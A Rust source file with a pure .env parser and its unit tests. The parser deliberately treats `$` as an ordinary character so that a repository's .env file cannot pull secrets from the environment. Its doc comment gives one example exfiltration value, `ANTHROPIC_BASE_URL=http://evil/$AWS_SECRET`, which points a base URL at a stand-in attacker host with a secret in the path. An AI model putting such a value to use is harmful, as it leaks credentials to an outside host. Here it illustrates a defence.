//! The parser of `.env`. Pure.
//!
//! Not dotenvy: it always replaces `$NAME` by the variable of the environment, and the file comes with the repository
//! (`ANTHROPIC_BASE_URL=http://evil/$AWS_SECRET`).

/// The assignments to the variables in `names`, in order; all others are skipped.
///
/// Reads `NAME=value`, `export NAME=value`, `'literal'`, `"with \n, \" and \\"` and `# comment`. A quoted value may have
/// several lines. `$` is an ordinary character. Fails if a value of `names` has no closing quote.
pub fn parse(text: &str, names: &[&str]) -> Result<Vec<(String, String)>, String> {
    let mut found = Vec::new();
    let mut rest = text.strip_prefix('\u{feff}').unwrap_or(text);
    while !rest.is_empty() {
        let line = rest.split_inclusive('\n').next().unwrap_or(rest);
        let Some((name, value)) = line.split_once('=') else {
            rest = &rest[line.len()..];
            continue;
        };
        let name = match name.trim().split_once([' ', '\t']) {
            Some(("export", name)) => name.trim_start(),
            _ => name.trim(),
        };
        let is_name = name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.');
        if !is_name || name.is_empty() {
            rest = &rest[line.len()..];
            continue;
        }
        let start = line.len() - value.len();
        let (value, used) = match read_value(&rest[start..]) {
            Some((value, used)) => (value, start + used),
            None if names.contains(&name) => {
                return Err(format!("the value of `{name}` has no closing quote"));
            }
            None => (String::new(), line.len()),
        };
        if names.contains(&name) {
            found.push((name.to_owned(), value));
        }
        rest = &rest[used..];
    }
    Ok(found)
}

/// The value at the start of `text`, and how many bytes it and the rest of its line take. None if a quote is not closed.
fn read_value(text: &str) -> Option<(String, usize)> {
    let mut value = String::new();
    let mut quote = None;
    let mut spaces = String::new();
    let mut chars = text.char_indices();
    while let Some((at, c)) = chars.next() {
        match (quote, c) {
            (None, '\n') => return Some((value, at + 1)),
            (None, '#') if !spaces.is_empty() || value.is_empty() => {
                let end = text[at..].find('\n').map_or(text.len(), |end| at + end + 1);
                return Some((value, end));
            }
            (None, ' ' | '\t' | '\r') => spaces.push(c),
            (None, '\'' | '"') => quote = Some(c),
            (Some(open), _) if c == open => quote = None,
            (_, c) => {
                let escapes = c == '\\' && quote != Some('\'');
                let c = match escapes.then(|| chars.next()) {
                    Some(Some((_, 'n'))) => '\n',
                    Some(Some((_, escaped))) => escaped,
                    Some(None) => return None,
                    None => c,
                };
                if !value.is_empty() {
                    value.push_str(&spaces);
                }
                spaces.clear();
                value.push(c);
            }
        }
    }
    quote.is_none().then_some((value, text.len()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[(&str, &str)]) {
        let found = parse(text, &["A", "B"]).unwrap();
        let found: Vec<(&str, &str)> = found.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
        assert_eq!(found, expected);
    }

    #[test]
    fn values_are_read_and_others_skipped() {
        check("A=1\nB=2\nC=3", &[("A", "1"), ("B", "2")]);
        check("\u{feff}export A = a b # comment\r\n#B=2\n", &[("A", "a b")]);
        check("A='x # $HOME'\nB=\"q\\\"\\n\\\\\"", &[("A", "x # $HOME"), ("B", "q\"\n\\")]);
        check("A=$HOME/${B}", &[("A", "$HOME/${B}")]);
        check("A=a#b\nA=", &[("A", "a#b"), ("A", "")]);
        check("C=\"-----BEGIN\nA=no\n-----END\"\nB=1", &[("B", "1")]);
        check("exportA=1\nexport=2\nexport\tB=3", &[("B", "3")]);
        check("A=a \\#b \"\\n\" c\nB=\\ x", &[("A", "a #b \n c"), ("B", " x")]);
        check("no assignment\n= \nC='open\nB=1", &[("B", "1")]);
        check("", &[]);
    }

    #[test]
    fn an_open_quote_is_named() {
        let error = parse("A='open\n", &["A"]).unwrap_err();
        assert_eq!(error, "the value of `A` has no closing quote");
    }
}
